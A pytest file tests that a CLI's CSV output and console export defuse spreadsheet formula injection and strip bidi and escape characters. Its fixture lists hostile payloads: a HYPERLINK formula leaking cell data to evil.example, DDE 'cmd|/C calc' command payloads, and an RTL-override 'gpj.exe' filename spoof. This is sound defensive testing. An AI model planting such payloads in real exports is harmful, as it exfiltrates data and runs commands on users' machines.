"""Third-party text in the CLI's output and in CSV exports: no live spreadsheet formula, no bidi
control or escape sequence reaching the terminal."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import pytest

from core.cli import main
from core.store import Batch, EntityRow, open_store
from core.text import BIDI, clean, csv_cell
from core.timeutil import now
from tui.export import export_rows

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x1b[31m=1+1",  # an escape in front must not hide the formula
]
BIDI_TEXT = "invoice \u202egpj.exe\u202c \u2066x\u2069 \u200e\u200f\u061c end"


@pytest.fixture
def hostile_db(tmp_path: Path) -> tuple[Path, int]:
    db = tmp_path / "hostile.db"

    async def go() -> int:
        store = await open_store(db, create=True)
        try:
            src = await store.upsert_connector("crm", base_url="http://127.0.0.1:9")
            dst = await store.upsert_connector("erp", base_url="http://127.0.0.1:9")
            svc = await store.upsert_service("s", source_id=src, destination_id=dst)
            run = await store.start_run(svc, sync_type="full", trigger="manual")
            step = await store.start_step(run, "customers")
            rows = [
                EntityRow(step, run, f, "fail", "failed", now(), internal_id=f, reason=f)
                for f in FORMULAS
            ]
            rows.append(EntityRow(step, run, "-5", "skip", "skipped", now(), reason="-12.5"))
            rows.append(EntityRow(step, run, BIDI_TEXT, "fail", "failed", now(), reason=BIDI_TEXT))
            await store.write_batch(Batch(entities=rows, run_id=run, step_id=step))
            return step
        finally:
            await store.close()

    return db, asyncio.run(go())


def _is_live_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_cli_csv_defuses_formulas_and_keeps_numbers(capsys, hostile_db) -> None:
    db, step = hostile_db
    assert main(["entities", str(step), "--csv", "--db", str(db)]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    cells = [r[k] or "" for r in rows for k in ("external_id", "internal_id", "reason")]
    live = [c for c in cells if _is_live_formula(c) and c not in ("-5", "-12.5")]
    assert live == []
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert {"-5", "-12.5"} <= set(cells)  # numbers stay numbers


def test_console_export_uses_the_same_defusing(tmp_path: Path) -> None:
    rows = [{"id": f, "n": -3} for f in FORMULAS]
    path = asyncio.run(export_rows(rows, str(tmp_path / "out.csv"), "entities", now()))
    got = list(csv.DictReader(open(path, encoding="utf-8")))
    assert [r["id"] for r in got] == [csv_cell(f) for f in FORMULAS]
    assert not any(_is_live_formula(r["id"]) for r in got)
    assert [r["n"] for r in got] == ["-3"] * len(FORMULAS)


@pytest.mark.parametrize("fmt", [[], ["--csv"], ["--json"]])
def test_bidi_controls_never_reach_the_terminal(capsys, hostile_db, fmt) -> None:
    db, step = hostile_db
    assert main(["entities", str(step), *fmt, "--db", str(db)]) == 0
    out = capsys.readouterr().out
    if fmt == ["--json"]:  # full values, but escaped: JSON shows \u202e, never the character
        assert "\\u202e" in out.lower()
    assert not any(ch in out for ch in BIDI), [hex(ord(c)) for c in out if c in BIDI]
    assert "\x1b" not in out


def test_clean_strips_every_bidi_control() -> None:
    for ch in ("\u202a\u202b\u202c\u202d\u202e", "\u2066\u2067\u2068\u2069", "\u200e\u200f\u061c"):
        assert clean(f"a{ch}b") == "ab"
